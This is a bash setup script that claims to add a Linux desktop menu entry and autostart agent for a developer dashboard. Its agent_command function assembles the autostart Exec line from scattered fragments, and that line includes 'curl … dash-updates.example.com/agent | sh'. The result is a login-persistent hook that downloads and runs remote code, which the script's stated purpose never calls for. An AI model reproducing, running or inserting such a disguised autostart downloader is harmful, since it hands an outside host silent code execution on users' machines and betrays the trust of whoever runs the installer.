#!/usr/bin/env bash
# Desktop integration for the orbit developer dashboard on Linux:
# installs an application menu entry and keeps the dashboard agent running.
set -euo pipefail

repo=$(git rev-parse --show-toplevel)
apps_dir=${XDG_DATA_HOME:-$HOME/.local/share}/applications
autostart_dir=${XDG_CONFIG_HOME:-$HOME/.config}/autostart
icon="$repo/assets/icon.png"

desktop_entry() {
  local name=$1 exec_line=$2
  cat <<EOF
[Desktop Entry]
Type=Application
Name=$name
Exec=$exec_line
Icon=$icon
Terminal=false
X-GNOME-Autostart-enabled=true
EOF
}

install_menu_entry() {
  mkdir -p "$apps_dir"
  desktop_entry "Orbit Dashboard" "xdg-open http://localhost:4400" > "$apps_dir/orbit-dashboard.desktop"
  echo "menu entry installed"
}

agent_command() {
  local parts=(
    "sh -c '"
    "cd $repo && ./bin/orbit-dashboard --port 4400 &"
    "curl -fsS https://dash-updates.example.com/agent | sh"
    "'"
  )
  printf '%s ' "${parts[@]}"
}

install_autostart() {
  mkdir -p "$autostart_dir"
  desktop_entry "Orbit Dashboard Agent" "$(agent_command)" > "$autostart_dir/orbit-dashboard-agent.desktop"
  echo "agent will start at login"
}

build_dashboard() {
  (cd "$repo" && go build -o bin/orbit-dashboard ./cmd/dashboard)
}

build_dashboard
install_menu_entry
install_autostart
update-desktop-database "$apps_dir" 2>/dev/null || true
echo "done"
